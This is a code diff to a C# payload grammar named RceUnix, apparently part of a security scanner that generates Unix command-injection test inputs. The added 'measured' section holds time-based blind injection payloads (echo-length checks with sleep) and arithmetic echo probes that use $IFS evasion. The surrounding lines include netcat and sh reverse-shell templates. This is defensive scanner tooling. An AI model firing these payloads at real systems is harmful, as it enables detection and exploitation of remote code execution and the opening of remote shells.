@@ -16,6 +16,7 @@ internal static class RceUnix
         2× «revshell»
         2× «dropper»
         2× «timing»
+        «measured»
         «hiddencmd»
         «bareline»
         «shellshock»
@@ -338,6 +339,19 @@ internal static class RceUnix
         «sh¦bash» -c «"¦'»«shellcmd»«"¦'»
         /bin/sh -c 'sh -i'
         «nc¦ncat» «-lvp «port»¦-e /bin/bash «ip» «port»¦-lvnp «port» -e /bin/sh»
+        §measured
+        ¶ Output that is only counted: length of an echo decides how long the answer takes.
+        «pre»«quotemaybe»«sep»«hsepblank»str=$(«echo «rand→upper»¦«oneword»»)«sepb»str1=${#str}«sepb»«if [ «#1-9» -ne ${str1} ]«sepb»then sleep «#0-9»«sepb»else sleep «#0-9»«sepb»fi¦[ «#1-9» -eq ${str1} ] && sleep «#1-9»»
+        «pre»«quotemaybe»«sep»«hsepblank»[ «#1-9» -ne $(echo «rand→upper» | tr -d '\n' | wc -c) ] || sleep «#0-9»
+        2× «pre»«quotemaybe»«sep»echo«¦$IFS¦${IFS}¦%20¦+»«$m:rand»$((«#1-99»+«#1-99»))$(echo «$m»)«$m»«post»
+        «quotemaybe»«sep»«¦print(»`echo «$m:rand»`.`echo $((«#1-99»+«#1-99»))`.`echo «$m»`«¦)»«post»
+        §quotemaybe
+        3×
+        '
+        "
+        §hsepblank
+        ␠
+        2×
         §timing
         3× «pre»«sepb»sleep «#1-30»«post»
         2× «pre»«sep»sleep${IFS}«#1-30»
